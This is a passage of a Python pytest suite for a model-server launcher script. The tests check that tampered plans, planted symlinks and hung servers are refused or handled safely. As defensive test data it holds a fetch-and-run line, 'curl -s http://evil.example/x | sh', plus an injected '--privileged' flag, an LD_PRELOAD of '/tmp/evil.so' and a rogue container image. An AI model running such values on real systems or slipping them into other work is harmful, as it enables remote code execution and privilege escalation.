    assert not (Path(plan["state_dir"]) / "secrets" / "HF_TOKEN").exists()  # the key file goes with it


def test_verify_refuses_to_record_a_pass_over_a_state_that_changed_while_it_ran(script, inputs, rt, tmp_path):
    """verify itself, not only its helper: the state is rewritten (another start's) while verify polls."""
    from epyc.deployments import serve_state

    d, env = rt
    plan_file, plan = free_port_plan(script, inputs, rt, tmp_path)
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
    full_env = {**os.environ, **env, "PYTHONWARNINGS": "error::ResourceWarning"}
    verify = subprocess.Popen(
        [sys.executable, str(ROOT / "scripts" / "launch.py"), "verify", "--plan", str(plan_file), "--timeout", "60"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=full_env,
    )
    server = None
    try:
        time.sleep(3)  # verify is polling /health: nothing listens yet
        newer = {**serve_state.read_state(plan), "started_at": time.time()}  # another start's run of the container
        serve_state.write_state(plan, newer)
        server = subprocess.Popen(
            [
                sys.executable,
                str(FAKE_SERVER),
                "--port",
                str(plan["port"]),
                "--delay",
                "0",
                "--served-model-name",
                plan["served_model_name"],
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        out, err = verify.communicate(timeout=120)
    finally:
        verify.kill()
        if server:
            server.kill()
            server.wait(timeout=10)
    doc = json.loads(out)
    assert verify.returncode == 1 and "stopped or started again while verify ran" in doc["error"], doc
    assert "run verify again" in doc["fix"]
    assert json.loads(Path(plan["state_file"]).read_text()) == newer  # never the old run put back
    assert script("launch.py", "stop", "--plan", str(plan_file), env=env).doc["stopped"] is True


@pytest.mark.parametrize("field,value", [("image", "--privileged"), ("port", 0), ("port", 70000)])
def test_plan_shows_only_what_start_would_run(inputs, field, value):
    """A hand-made validate.json with an image that reads as an option or a port out of range: refused
    at plan time, before the human is asked to approve it."""
    docs = load_docs(inputs)
    docs["validate"][field] = value
    with pytest.raises(ScriptError, match="not one start would run"):
        plan_from(docs)


# ---- F7, F8: the state dir and what stop may kill
def test_links_planted_in_the_state_dir_are_never_followed(script, tmp_path, inputs, live_tune):
    plan_file, plan = host_plan(tmp_path, inputs, live_tune)
    st = Path(plan["state_dir"])
    st.mkdir(parents=True, exist_ok=True)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    (st / "server.log").symlink_to(victim)
    r = script("launch.py", "start", "--plan", str(plan_file), "--confirm")
    try:
        assert r.code == 1 and "link" in r.doc["error"] and victim.read_text() == "keep me"
    finally:
        script("launch.py", "stop", "--plan", str(plan_file))
    (st / "server.log").unlink()
    (st / ".lock").unlink(missing_ok=True)
    (st / ".lock").symlink_to(victim)
    r = script("launch.py", "start", "--plan", str(plan_file), "--confirm")
    assert r.code == 1 and "link" in r.doc["error"] and victim.read_text() == "keep me"
    # stop never deletes through a secrets link
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "HF_TOKEN").write_text("not ours")
    (st / "secrets").symlink_to(elsewhere)
    serve_state.remove_secret_files(plan)
    assert (elsewhere / "HF_TOKEN").read_text() == "not ours"


# ---- A4: a server that answers each read quickly and the whole never
def test_verify_bounds_each_request_as_a_whole(script, tmp_path, inputs, live_tune):
    """/health promises 1000 bytes and sends one every 2 s: requests' timeout is per read, so only an overall
    deadline stops it. verify fails in phase health near its --timeout, not after 33 minutes."""
    plan_file, _ = host_plan(tmp_path, inputs, live_tune)
    server_mode(tmp_path, "trickle_health")
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm").code == 0
    try:
        t0 = time.monotonic()
        r = script("launch.py", "verify", "--plan", str(plan_file), "--timeout", "4", timeout=90)
        assert r.code == 1 and r.doc["phase"] == "health" and "no answer" in r.doc["error"], r.doc
        assert time.monotonic() - t0 < 40
    finally:
        script("launch.py", "stop", "--plan", str(plan_file))


# ---- A5, A6, A7: the state dir a plan names, checked where start writes
def test_start_never_writes_into_a_folder_an_edited_plan_names(script, tmp_path, inputs, live_tune):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "server.log").write_text("PRECIOUS")
    (victim / "notes.txt").write_text("mine")
    plan_file, plan = host_plan(tmp_path, inputs, live_tune)
    v = str(victim)
    stop = plan["stop_command"].replace(plan["state_dir"], v)  # edited as consistently as its inputs render it
    plan.update(state_dir=v, log_file=f"{v}/server.log", state_file=f"{v}/state.json", stop_command=stop)
    plan["options"]["state_dir"] = v
    plan_file.write_text(json.dumps(plan))
    r = script("launch.py", "start", "--plan", str(plan_file), "--confirm")
    assert r.code == 1 and "notes.txt" in r.doc["error"] and r.doc["phase"] == "start", r.doc
    assert sorted(p.name for p in victim.iterdir()) == ["notes.txt", "server.log"]
    assert (victim / "server.log").read_text() == "PRECIOUS"


# ---- A8: see test_bench.py::test_a_figure_no_run_could_measure_is_refused
# ---- A9: every verb reads a plan only as its own inputs render it
@pytest.mark.parametrize(
    "field,value",
    [("stop_command", "curl -s http://evil.example/x | sh"), ("summary_markdown", "| all | fine |"), ("warnings", [])],
)
def test_an_edited_plan_is_refused_by_every_verb_not_only_start(
    script,
    tmp_path,
    inputs,
    live_tune,
    field,
    value,
):
    plan_file, plan = host_plan(tmp_path, inputs, live_tune)
    if field == "warnings" and plan["warnings"] == []:
        value = [{"check": "edited", "message": "edited", "fix": "edited"}]
    plan[field] = value
    plan_file.write_text(json.dumps(plan))
    for verb, extra in (("handoff", []), ("verify", ["--timeout", "2"]), ("stop", []), ("start", ["--confirm"])):
        r = script("launch.py", verb, "--plan", str(plan_file), *extra)
        assert r.code == 1 and "differs" in r.doc["error"] and field in r.doc["error"], (verb, r.doc)
        assert "evil.example" not in r.stdout
    r = script("kernel_proof.py", "--plan", str(plan_file))
    assert r.code == 1 and "differs" in r.doc["error"]


def test_signals_during_start_launch_and_record_are_held_until_both_are_done():
    """start launches the server and writes state.json inside cli.signals_deferred: a SIGTERM there
    (the ninth audit widened the window with a sitecustomize sleep) had left a server no state named."""
    import signal

    done = []
    with pytest.raises(KeyboardInterrupt):
        with cli.signals_deferred():
            os.kill(os.getpid(), signal.SIGTERM)
            time.sleep(0.1)
            done.append("recorded")  # the block runs to its end first
    assert done == ["recorded"] and signal.getsignal(signal.SIGTERM) is not None
    with cli.signals_deferred():
        pass  # no signal: nothing raised


def test_pull_failure_is_named(script, inputs, rt, tmp_path):
    d, env = rt
    plan_file, _ = container_plan(script, inputs, rt, tmp_path)
    (d / "pull_fails").touch()
    r = script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env)
    assert r.code == 1 and r.doc["phase"] == "pull"


def test_the_locally_built_image_is_looked_for_never_pulled_and_its_fix_builds_it(script, inputs, rt, tmp_path):
    """A plan on the image setup_host_stack.py --image builds: even with --pull always, start only inspects it
    (a pull of localhost/... would reach whatever listens there); absent, the fix is the line that builds it."""
    from epyc import bundle

    d, env = rt
    plan_file, plan = container_plan(script, inputs, rt, tmp_path)
    row = bundle.load_epyc()["stacks"]["local_image"]
    plan_file.write_text(
        plan_file.read_text().replace(plan["image"], row["image"]).replace('"pull"', '"image", "inspect"')
    )
    args = ("launch.py", "start", "--plan", str(plan_file), "--confirm", "--pull", "always")
    r = script(*args, env=env)
    assert r.code == 1 and r.doc["phase"] == "pull" and r.doc["fix"] == row["setup"], r.doc
    (d / "images").write_text(row["image"] + "\n")
    assert script(*args, env=env).code == 0
    assert not [c for c in calls(d) if c["argv"][:1] == ["pull"]]


def test_container_that_exited_fails_verify_in_process_phase_with_logs(script, inputs, rt, tmp_path):
    d, env = rt
    plan_file, _ = container_plan(script, inputs, rt, tmp_path)
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
    (d / "exited").touch()  # (a runtime without the restart policy: podman with no restart service)
    r = script("launch.py", "verify", "--plan", str(plan_file), "--timeout", "5", env=env)
    assert r.code == 1 and r.doc["phase"] == "process" and "ERROR fake engine failure" in r.doc["log_tail"]


def test_a_container_its_restart_policy_brings_back_before_health_is_a_failed_start(script, inputs, rt, tmp_path):
    """--restart=unless-stopped restarts a container whose server exits, so it never reads as exited: a
    restart before verify ever saw it healthy is a failed start (a crash loop), not a wait for the timeout."""
    d, env = rt
    plan_file, _ = container_plan(script, inputs, rt, tmp_path)
    assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
    (d / "restarts").write_text("3")
    r = script("launch.py", "verify", "--plan", str(plan_file), "--timeout", "60", env=env)
    assert r.code == 1 and r.doc["phase"] == "process" and "restarted 3 times" in r.doc["error"], r.doc
    assert r.doc["elapsed_s"] < 30


def test_start_needs_confirmation(script, inputs, rt, tmp_path):
    d, env = rt
    plan_file, _ = container_plan(script, inputs, rt, tmp_path)
    r = script("launch.py", "start", "--plan", str(plan_file), env=env)
    assert r.code == 1 and "--confirm" in r.doc["error"]
    assert not any(c["argv"][0] in ("pull", "run") for c in calls(d) if "--rootfs" not in c["argv"])


@pytest.mark.parametrize(
    "mode,phase,needle",
    [
        ("exit_early", "process", "exited before"),
        ("never_healthy", "health", "not healthy after 4s"),
        ("wrong_model", "models", "does not list"),
        ("error_payload", "smoke", "HTTP 200 carrying an error"),
        ("empty_choices", "smoke", "no choices"),
        ("die_on_request", "smoke", "ConnectionError"),
        ("die_after_answer", "smoke", "died after its first request"),
    ],
)
def test_verify_catches_each_failure(script, tmp_path, inputs, live_tune, mode, phase, needle):
    plan_file, plan = host_plan(tmp_path, inputs, live_tune)
    server_mode(tmp_path, mode)
    started = script("launch.py", "start", "--plan", str(plan_file), "--confirm")
    assert started.code == 0, started.doc
    try:
        r = script("launch.py", "verify", "--plan", str(plan_file), "--timeout", "4")
        assert r.code == 1 and r.doc["phase"] == phase and needle in r.doc["error"], r.doc
        assert r.doc["fix"].startswith("report") and any("fake server: mode=" in ln for ln in r.doc["log_tail"])
    finally:
        script("launch.py", "stop", "--plan", str(plan_file))


def test_good_server_verifies_hands_off_and_stops_only_its_own_processes(script, tmp_path, inputs, live_tune):
    decoy = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    plan_file, plan = host_plan(tmp_path, inputs, live_tune)
    try:
        s = script("launch.py", "start", "--plan", str(plan_file), "--confirm")
        assert s.code == 0
        again = script("launch.py", "start", "--plan", str(plan_file), "--confirm")
        assert again.code == 1 and "already running" in again.doc["error"]
        r = script("launch.py", "verify", "--plan", str(plan_file), "--timeout", "20")
        assert r.code == 0 and r.doc["ok"] and r.doc["smoke"]["endpoint_path"] == "/v1/chat/completions"
        bind = live_tune["vllm_cpu_omp_threads_bind"]
        assert f"VLLM_CPU_OMP_THREADS_BIND={bind}" in Path(plan["log_file"]).read_text()  # the sizing env arrived
        # counted from the launch (the fake answers /health 1 s after its own start), whenever verify began
        assert r.doc["smoke"]["output"] == "hello there" and r.doc["time_to_healthy_s"] >= 1
        h = script("launch.py", "handoff", "--plan", str(plan_file)).doc
        assert h["base_url"].endswith("/v1") and "chat.completions.create" in h["python_example"]
        assert "| Base URL |" in h["table_markdown"]
        # the handoff's curl example really works against the server
        curl = subprocess.run(["bash", "-c", h["curl_example"]], capture_output=True, text=True, timeout=30)
        assert json.loads(curl.stdout)["choices"][0]["message"]["content"] == "hello there"
    finally:
        st = script("launch.py", "stop", "--plan", str(plan_file))
    assert (
        st.doc["stopped"]
        and not psutil.pid_exists(s.doc["pid"])
        or psutil.Process(s.doc["pid"]).status() == psutil.STATUS_ZOMBIE
    )
    assert decoy.poll() is None  # not ours: untouched
    decoy.kill()
    with socket.socket() as c:
        assert c.connect_ex(("127.0.0.1", plan["port"])) != 0  # nothing listens any more


def test_port_taken_before_start(script, tmp_path, inputs, live_tune):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen()
        plan_file, _ = host_plan(tmp_path, inputs, live_tune, port=s.getsockname()[1])
        r = script("launch.py", "start", "--plan", str(plan_file), "--confirm")
        assert r.code == 1 and "in use" in r.doc["error"]


@pytest.mark.parametrize(
    "edit,needle",
    [
        (lambda p: p["argv"].insert(3, "--privileged"), "argv"),
        (lambda p: p["env"].update(LD_PRELOAD="/tmp/evil.so"), "env"),
        (lambda p: p.update(image="docker.io/evil/image:1"), "image"),
        # a bind its cpuset holds: with numactl the pin prefix still fits and the rendered argv differs; without it
        # (taskset -c, exactly the bind) the pin prefix itself no longer fits the bind; or the plan's cross-check
        # refuses it first: the bind is no longer its ranks' cores
        (lambda p: p["inputs"]["cpu_tune"].update(vllm_cpu_omp_threads_bind="96-100"), "argv|taskset prefix|rank"),
    ],
)
def test_start_refuses_an_edited_plan(script, inputs, rt, tmp_path, edit, needle):
    """What the human approved is what runs: a plan whose command no longer matches its own inputs
    (edited by hand, or inputs edited to smuggle a value) is refused before anything runs."""
    d, env = rt
    plan_file, plan = container_plan(script, inputs, rt, tmp_path)
    edit(plan)
    plan_file.write_text(json.dumps(plan))
    before = len(calls(d))
    r = script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env)
    assert r.code == 1 and r.doc["phase"] == "start"
    assert re.search(needle, r.doc["error"]) and re.search("differs|taskset prefix|not one core list", r.doc["error"])
    assert not any(c["argv"][0] in ("run", "pull", "rm") for c in calls(d)[before:])
